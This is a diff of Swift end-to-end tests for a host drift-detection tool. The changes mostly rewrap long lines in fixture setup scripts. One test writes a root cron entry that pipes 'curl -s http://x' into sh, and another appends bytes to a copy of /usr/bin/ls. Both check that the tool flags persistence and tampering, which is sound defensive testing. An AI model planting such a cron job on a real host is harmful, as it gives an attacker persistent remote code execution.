@@ -32,7 +32,8 @@ struct EndToEndDriftTests {
             chmod 640 etc/shadow etc/gshadow
             cp /etc/login.defs etc/
             for unit in web cache audit; do
-                printf '[Unit]\\nDescription=%s\\n[Service]\\nExecStart=/usr/bin/%s\\n[Install]\\nWantedBy=multi-user.target\\n' \
+                printf '[Unit]\\nDescription=%s\\n[Service]\\nExecStart=/usr/bin/%s\\n\
+            [Install]\\nWantedBy=multi-user.target\\n' \
                     $unit $unit > usr/lib/systemd/system/$unit.service
             done
             ln -s /usr/lib/systemd/system/audit.service etc/systemd/system/multi-user.target.wants/audit.service
@@ -51,21 +52,24 @@ struct EndToEndDriftTests {
             printf '#!/bin/sh\\necho hello\\n' > '\(package)/usr/bin/hello-drift'
             chmod 755 '\(package)/usr/bin/hello-drift'
             echo copyright > '\(package)/usr/share/doc/hello-drift/copyright'
-            printf 'Package: hello-drift\\nVersion: 1.0-1\\nArchitecture: all\\nMaintainer: T <t@example.com>\\nDescription: fixture\\n tiny\\n' \
+            printf 'Package: hello-drift\\nVersion: 1.0-1\\nArchitecture: all\\nMaintainer: T <t@example.com>\\n\
+            Description: fixture\\n tiny\\n' \
                 > '\(package)/DEBIAN/control'
             dpkg-deb --root-owner-group --build '\(package)' '\(package).deb' >/dev/null
             dpkg --root='\(host)' --force-depends --force-script-chrootless -i '\(package).deb'
             systemctl --root='\(host)' enable web.service
             systemctl --root='\(host)' mask cache.service
             mkdir -p '\(host)/etc/systemd/system/audit.service.d'
-            printf '[Service]\\nExecStart=\\nExecStart=/usr/bin/audit --quiet\\n' > '\(host)/etc/systemd/system/audit.service.d/override.conf'
+            printf '[Service]\\nExecStart=\\nExecStart=/usr/bin/audit --quiet\\n' \
+                > '\(host)/etc/systemd/system/audit.service.d/override.conf'
             useradd --root '\(host)' -m -s /bin/sh deploy
             printf 'patched' >> '\(host)/usr/bin/ls'
             # Expected churn of a running host, which the default policy must not report:
             mkdir -p '\(host)/var/log/journal' '\(host)/var/lib/apt/lists' '\(host)/var/cache/apt/archives' \
                 '\(host)/var/lib/systemd' '\(host)/etc/ssh' '\(host)/root' '\(host)/tmp'
             echo 'Nov 22 sshd[1]: started' >> '\(host)/var/log/syslog'
-            echo 'Package: x' > '\(host)/var/lib/apt/lists/deb.debian.org_debian_dists_bookworm_main_binary-amd64_Packages'
+            echo 'Package: x' \
+                > '\(host)/var/lib/apt/lists/deb.debian.org_debian_dists_bookworm_main_binary-amd64_Packages'
             head -c 4096 /dev/urandom > '\(host)/var/cache/apt/pkgcache.bin'
             echo 0123456789abcdef0123456789abcdef > '\(host)/etc/machine-id'
             head -c 512 /dev/urandom > '\(host)/var/lib/systemd/random-seed'
@@ -80,7 +84,10 @@ struct EndToEndDriftTests {
     }
 
     @Test(
-        "a package added, a service enabled and one masked, a drop-in, a user added and a tampered binary: exactly those"
+        """
+        a package added, a service enabled and one masked, a drop-in, a user added and a tampered binary: \
+        exactly those
+        """
     )
     func realToolsDrift() throws {
         let fixture = try Fixture()
@@ -101,7 +108,8 @@ struct EndToEndDriftTests {
         #expect(status == 1)
         let items = Fixture.items(report)
         let summary = items.map { item in
-            "\(item["kind"]?.stringValue ?? "") \(item["name"]?.stringValue ?? "") \(item["change"]?.stringValue ?? "") "
+            "\(item["kind"]?.stringValue ?? "") \(item["name"]?.stringValue ?? "") "
+                + "\(item["change"]?.stringValue ?? "") "
                 + Fixture.fields(item).joined(separator: ",") + " \(item["severity"]?.stringValue ?? "")"
         }
         #expect(
@@ -147,7 +155,10 @@ struct EndToEndDriftTests {
     }
 
     @Test(
-        "--verify-packages finds a package-owned file that fails its dpkg md5sum even without a baseline, as debsums does"
+        """
+        --verify-packages finds a package-owned file that fails its dpkg md5sum even without a baseline, \
+        as debsums does
+        """
     )
     func verifyPackagesWithoutBaseline() throws {
         let fixture = try Fixture()
@@ -187,14 +198,17 @@ struct EndToEndDriftTests {
             set -e
             cd '\(image)'
             mkdir -p var/lib/dpkg/info var/lib/dpkg/updates var/lib/dpkg/triggers
-            printf 'Package: tool-a\\nStatus: install ok installed\\nArchitecture: all\\nVersion: 1.0-1\\n\\nPackage: tool-b\\nStatus: install ok installed\\nArchitecture: all\\nVersion: 1:2.0~rc1-1\\n\\n' > var/lib/dpkg/status
+            printf 'Package: tool-a\\nStatus: install ok installed\\nArchitecture: all\\nVersion: 1.0-1\\n\\n\
+            Package: tool-b\\nStatus: install ok installed\\nArchitecture: all\\nVersion: 1:2.0~rc1-1\\n\\n' \
+                > var/lib/dpkg/status
             """
         #expect(try CommandLineTool.shell(script).status == 0)
         let baseline = try fixture.scan("baseline.jsonl")
         let host = fixture.directory.url("host")
         #expect(
             try CommandLineTool.shell(
-                "cp -a '\(image)' '\(host)' && sed -i 's/1.0-1/1.0-1+deb12u1/; s/1:2.0~rc1-1/1:1.9-1/' '\(host)/var/lib/dpkg/status'"
+                "cp -a '\(image)' '\(host)'"
+                    + " && sed -i 's/1.0-1/1.0-1+deb12u1/; s/1:2.0~rc1-1/1:1.9-1/' '\(host)/var/lib/dpkg/status'"
             ).status == 0)
         let (_, report) = try fixture.jsonReport(baseline, try fixture.scan("host.jsonl", root: host))
         #expect(Fixture.item(report, named: "tool-a")?["change"]?.stringValue == "upgraded")
@@ -213,7 +227,8 @@ struct EndToEndDriftTests {
         let host = fixture.directory.url("host")
         #expect(
             try CommandLineTool.shell(
-                "cp -a '\(fixture.root)' '\(host)' && echo '* * * * * root curl -s http://x | sh' > '\(host)/etc/cron.d/update'"
+                "cp -a '\(fixture.root)' '\(host)'"
+                    + " && echo '* * * * * root curl -s http://x | sh' > '\(host)/etc/cron.d/update'"
             ).status == 0)
         let (_, report) = try fixture.jsonReport(baseline, try fixture.scan("host.jsonl", root: host))
         #expect(Fixture.items(report).count == 1)
